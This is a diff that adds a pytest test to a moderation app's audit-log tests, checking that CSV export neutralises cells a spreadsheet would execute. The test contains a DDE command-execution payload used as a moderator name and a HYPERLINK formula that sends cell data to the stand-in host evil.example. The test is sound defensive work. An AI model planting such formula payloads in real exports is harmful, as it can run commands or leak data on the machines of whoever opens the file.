@@ -1,6 +1,8 @@
 """Moderation: the queue, decisions with published reasons, flags, official responses, audit log, email."""
 
+import csv
 import datetime
+import io
 import threading
 
 import pytest
@@ -395,6 +397,19 @@ class TestAuditLog:
         rows = b"".join(response.streaming_content).decode().splitlines()
         assert rows[0] == "time,comment,action,from_status,to_status,reason,note,actor"
         assert len(rows) == 2 and second.tracking_number in rows[1] and "Advertising." in rows[1]
+
+    def test_export_neutralises_cells_a_spreadsheet_would_run(self, client, statement):
+        """A moderator's name and note that look like formulas reach the CSV as text, behind one quote."""
+        hostile = make_moderator(display_name="@SUM(1+1)*cmd|' /C calc'!A0")
+        comment = make_comment(statement, body="A comment that a hostile-looking moderator rejects.")
+        note = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+        services.comment_reject(comment=comment, moderator=hostile, reason="spam", note=note)
+        client.force_login(hostile)
+        text = b"".join(client.get("/en/moderation/log.csv?action=reject").streaming_content).decode()
+        row = next(csv.DictReader(io.StringIO(text)))
+        assert row["note"] == "'" + note
+        assert row["actor"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+        assert row["comment"] == comment.tracking_number and row["reason"] == "spam"
 
 
 def test_moderation_digest_emails_moderators_in_their_language(statement, pending, capsys):
